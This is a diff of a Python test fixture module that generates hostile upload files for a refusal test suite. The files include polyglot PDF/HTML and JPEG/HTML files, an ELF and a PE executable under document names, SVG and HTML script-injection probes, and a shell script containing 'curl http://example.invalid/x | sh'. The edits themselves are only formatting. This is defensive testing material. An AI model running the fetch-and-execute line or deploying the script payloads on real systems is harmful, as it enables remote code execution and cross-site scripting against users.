@@ -5,6 +5,7 @@
 Each file is listed in tests/evidence/hostile_manifest.py with the name it is uploaded under and the
 refusal message expected; a file here without a manifest entry fails the suite.
 """
+
 import io
 import struct
 import zipfile
@@ -16,8 +17,7 @@ HERE = Path(__file__).resolve().parent
 def elf_executable() -> bytes:
     """A minimal x86-64 Linux ELF executable header (ET_EXEC), as a real compiler would start one."""
     ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\x00" * 8
-    header = ident + struct.pack(
-        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
+    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
     program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x84, 0x84, 0x1000)
     code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # exit(0)
     return header + program + code
@@ -55,13 +55,13 @@ FILES = {
     "html_named.pdf": b"<!DOCTYPE html><html><body><script>fetch('/evil')</script></body></html>\n",
     "html_named.txt": b"<html><head><title>x</title></head><body onload=alert(1)>hi</body></html>\n",
     "script.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
-                  b"<script>alert(1)</script></svg>\n",
+    b"<script>alert(1)</script></svg>\n",
     "svg_named.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
     "elf_named.jpg": elf_executable(),
     "pe_named.docx": pe_executable(),
     "empty.pdf": b"",
     "polyglot_pdf_html.pdf": b"%PDF-1.4\n%<html><body><script>alert(1)</script></body></html>\n"
-                             b"1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+    b"1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
     "polyglot_jpeg_html.jpg": tiny_jpeg_with_html(),
     "zip_named.docx": fake_docx_zip(),
     "shell_script.txt": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
